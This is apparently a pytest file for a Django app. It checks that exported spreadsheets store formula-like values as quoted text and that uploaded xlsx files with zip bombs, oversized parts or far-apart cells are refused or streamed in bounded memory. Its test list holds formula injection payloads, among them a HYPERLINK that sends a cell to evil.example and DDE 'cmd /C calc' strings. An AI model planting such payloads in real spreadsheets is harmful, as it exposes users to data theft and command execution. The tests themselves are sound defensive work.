"""Issue #9, files and input: formula injection in written sheets, bounded reading of uploads."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.utils import translation
from openpyxl import load_workbook

from yinling.core.sheets import RejectedRow, UnreadableFile, reading, write_report, write_xlsx

# OWASP's list of what a spreadsheet reads as the start of a formula, each as an attack would use it.
INJECTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xml_text(value: str) -> str:
    return value.replace("\r", "\n")


def _formula_free(sheet_xml: str) -> None:
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="str"' not in sheet_xml  # a formula's cached string


def test_it_writes_formula_like_export_values_as_quoted_text_and_keeps_numbers_numbers() -> None:
    buffer = io.BytesIO()
    write_xlsx(buffer, ["=title", "值", "数"], [[v, "普通", -3] for v in INJECTED])
    with zipfile.ZipFile(buffer) as zf:
        _formula_free(zf.read("xl/worksheets/sheet1.xml").decode())
    buffer.seek(0)
    ws = load_workbook(buffer).active
    assert ws["A1"].value == "=title" and ws["A1"].data_type == "s" and ws["A1"].quotePrefix and ws["A1"].font.b
    for row, value in enumerate(INJECTED, 2):
        cell = ws.cell(row, 1)
        # The value as stored (re-importable), as text that stays text when edited; XML reads a
        # carriage return as a line feed.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (_xml_text(value), "s", True)
        assert ws.cell(row, 2).quotePrefix is False
        assert (ws.cell(row, 3).value, ws.cell(row, 3).data_type) == (-3, "n")


def test_it_writes_formula_like_uploaded_values_in_the_error_report_as_text(tmp_path: Path) -> None:
    target = tmp_path / "report.xlsx"
    rejected = [RejectedRow(n, [value, -3, "-3"], [(0, "@姓名", "=不对")]) for n, value in enumerate(INJECTED, 2)]
    write_report(["@姓名", "=数", "文本"], rejected, target)
    with zipfile.ZipFile(target) as zf:
        _formula_free(zf.read("xl/worksheets/sheet1.xml").decode())
    ws = load_workbook(target).active
    assert [(c.value, c.data_type) for c in ws[1]][:2] == [("@姓名", "s"), ("=数", "s")]
    for row, value in enumerate(INJECTED, 2):
        cell = ws.cell(row, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (_xml_text(value), "s", True)
        assert (ws.cell(row, 2).value, ws.cell(row, 2).data_type) == (-3, "n")  # a number stays a number
        assert (ws.cell(row, 3).value, ws.cell(row, 3).data_type) == ("-3", "s")
        assert ws.cell(row, 4).data_type == "s"


# --- reading an upload is bounded ---------------------------------------------------------------

_SST_HEAD = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
_SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>张三</t></is></c></row>'
    '<row r="400000"><c r="Z400000"><v>1</v></c></row></sheetData></worksheet>'
)


def crafted(path: Path, parts: dict[str, bytes | tuple[bytes, bytes, int]], *, stored: bool = False) -> Path:
    """A valid one-sheet workbook with `parts` added or replaced; (head, unit, n) streams head + unit * n.

    `stored`: bytes parts uncompressed (to test a limit other than the compression ratio)."""
    plain = io.BytesIO()
    write_xlsx(plain, ["姓名"], [["张三"]])
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            if info.filename not in parts:
                out.writestr(info.filename, src.read(info.filename))
        for name, content in parts.items():
            if isinstance(content, bytes):
                out.writestr(name, content, zipfile.ZIP_STORED if stored else None)
                continue
            head, unit, n = content
            with out.open(name, "w", force_zip64=True) as fh:
                fh.write(head)
                block = unit * max(1, (1 << 20) // len(unit))
                for _ in range(n * len(unit) // len(block)):
                    fh.write(block)
    return path


def refusal(path: Path, language: str = "en") -> str:
    with translation.override(language), pytest.raises(UnreadableFile) as caught:
        for table in reading.open_tables(path, path.name):
            for _row in table.rows:
                pass
    return str(caught.value)


def test_it_refuses_a_shared_strings_zip_bomb_naming_the_part_and_the_limit(tmp_path: Path) -> None:
    # 300 MB of shared strings in a file of about 300 KB.
    bomb = crafted(tmp_path / "bomb.xlsx", {"xl/sharedStrings.xml": (_SST_HEAD, b"<si><t>aaaa</t></si>", 15_000_000)})
    assert bomb.stat().st_size < 1_000_000
    message = refusal(bomb)
    assert "xl/sharedStrings.xml" in message and f"{reading.MAX_SHARED_STRINGS_BYTES >> 20} MB" in message


def test_it_refuses_a_part_compressed_like_no_real_file_is(tmp_path: Path) -> None:
    bomb = crafted(tmp_path / "ratio.xlsx", {"xl/sharedStrings.xml": (_SST_HEAD, b"<si><t>aaaa</t></si>", 1_000_000)})
    message = refusal(bomb)
    assert "xl/sharedStrings.xml" in message and f"{reading.MAX_RATIO} to 1" in message
    assert f"“xl/sharedStrings.xml”压缩比超过 {reading.MAX_RATIO} 比 1" in refusal(bomb, "zh-hans")


def test_it_refuses_too_many_parts(tmp_path: Path) -> None:
    path = crafted(tmp_path / "parts.xlsx", {f"xl/media/p{i}.bin": b"x" for i in range(reading.MAX_PARTS)})
    assert f"at most {reading.MAX_PARTS:,}" in refusal(path)


def test_it_refuses_a_huge_styles_part_and_one_with_too_many_formats(tmp_path: Path) -> None:
    head = (
        b'<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>'
    )
    xf = b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    huge = crafted(tmp_path / "huge.xlsx", {"xl/styles.xml": (head, xf, 400_000)})  # about 25 MB
    message = refusal(huge)
    assert "xl/styles.xml" in message and f"{reading.MAX_PART_BYTES >> 20} MB" in message
    many = crafted(
        tmp_path / "many.xlsx",
        {"xl/styles.xml": head + xf * (reading.MAX_STYLES + 1) + b"</cellXfs></styleSheet>"},
        stored=True,
    )
    message = refusal(many)
    assert "xl/styles.xml" in message and f"{reading.MAX_STYLES:,}" in message


@pytest.mark.parametrize("cell", ['<c r="Z400000"><v>1</v></c>', '<c t="n" r="Z400000"><v>1</v></c>'])
def test_it_streams_a_sheet_whose_cells_lie_far_apart_instead_of_holding_its_whole_range(
    tmp_path: Path, cell: str
) -> None:
    # Two cells 400,000 rows and 26 columns apart: calamine would hold 10 million cells (320 MB).
    sheet = _SHEET.replace('<c r="Z400000"><v>1</v></c>', cell)
    path = crafted(tmp_path / "far.xlsx", {"xl/worksheets/sheet1.xml": sheet.encode()})
    assert path.stat().st_size < 3_000
    rows = [(n, values) for table in reading.open_tables(path, "far.xlsx") for n, values in table.rows]
    assert rows[:2] == [(1, ["姓名"]), (2, ["张三"])] and rows[-1] == (400_000, [None] * 25 + [1])


_PEAK = """
import resource, sys
import django
django.setup()
from pathlib import Path
from yinling.core.sheets import reading
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for name in sys.argv[1:]:
    try:
        for table in reading.open_tables(Path(name), name):
            for _row in table.rows:
                pass
    except reading.UnreadableFile:
        pass
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) // 1024)
"""


def test_it_reads_crafted_files_in_bounded_memory(tmp_path: Path) -> None:
    files = [
        crafted(tmp_path / "far.xlsx", {"xl/worksheets/sheet1.xml": _SHEET.encode()}),
        crafted(tmp_path / "bomb.xlsx", {"xl/sharedStrings.xml": (_SST_HEAD, b"<si><t>aaaa</t></si>", 15_000_000)}),
    ]
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "yinling.settings", "DEBUG": "1"}
    done = subprocess.run(
        [sys.executable, "-c", _PEAK, *map(str, files)],
        capture_output=True,
        text=True,
        env=env,
        check=True,
        timeout=120,
    )
    assert int(done.stdout.split()[-1]) < 100  # MB over the interpreter's own, whatever the files claim


def test_it_streams_a_sheet_whose_far_row_is_placed_by_its_row_tag(tmp_path: Path) -> None:
    # Cells without a reference sit in their row; a row whose r is not its first attribute.
    sheet = _SHEET.replace(
        '<row r="400000"><c r="Z400000"><v>1</v></c></row>', '<row spans="1:1" r="400000"><c><v>1</v></c></row>'
    )
    path = crafted(tmp_path / "far.xlsx", {"xl/worksheets/sheet1.xml": sheet.encode()})
    with zipfile.ZipFile(path) as zf:
        assert not reading._calamine_fits(zf, "xl/worksheets/sheet1.xml")
    rows = [(n, values) for table in reading.open_tables(path, "far.xlsx") for n, values in table.rows]
    assert rows[-1] == (400_000, [1])
